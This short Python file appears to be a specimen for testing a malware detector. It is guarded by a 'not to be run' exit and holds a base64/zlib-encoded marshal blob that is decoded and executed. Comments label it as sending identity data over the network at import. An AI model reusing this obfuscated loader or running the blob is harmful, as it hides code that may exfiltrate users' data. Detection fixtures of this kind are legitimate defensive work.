raise SystemExit("specimen: not to be run")
import base64
import marshal
import types
import zlib

BLOB = (
    "eJyFUjtvE0EQnr3b8/mlQOFgQhA6QUQ4RbkTjzQRBKVImyZVXMRyvEticy92z/JDKSBCIoiCEuhCBch/gDb/wJEj"  # match: encoded-literal  # match: identity-sent  # match: network-at-import
    "kWz4A1AZUkRyxa6DIcgFu5qZnW8038yOpgznTuK3Pfku1RugQODxLQCW1IAigtroLLyNiEZ0TytoA6sXMMHPoWBQ"
    "XM3CyKleGMUknyFFq14cjbWHFv1r56CQkjlpmqrm/5+FgOjqtrWh39RvwG3gqK4hWJW+Qhr6KtSRbQho5XlEyxWf"
    "BvNWEMZWHFrr1GK14JvKXi6jc7WwFF2NaWowpvhPjKAt+FuQaFvQkq8VsPXlVmbIb4WPWlc24zji865LGyU/8qhT"
    "Dn33YY1T9sBGwohYJYjlAwcln3JFb/VNQv3QiZrC2GCUxsyUqBKuhvEUvuLUzuzb3AG+dpiZ/ji1n3E62DlRjdhZ"
    "kSwWFVOxKNIrTR5Tf6lRiYW5QeOoxLkYqzHPq6w7jD6pUR6LxJk/KCHMIWpKNIxoMMhTrYpEKeB1ypiah8CMlsgn"
    "uSvSYWqR+sn7fkhqHl1gucE8ZK9VqXo6QuhQz+yw7YWjdK4z7nTTbge7xzB2DOM/Expye2lIZF+sPVv7YkzuG5Pv"
    "lnbd3ekP7nu3e/1u9+q9rjHXA4QmPl86kr+++Xrm5cyr2QN8+VQyT5yqyA+l+lxt414qv2jre7axeMf8BTRwpYE="
)

code = marshal.loads(zlib.decompress(base64.b64decode(BLOB)))  # match: execution-of-decoded
types.FunctionType(code, globals())()  # match: execution-of-decoded
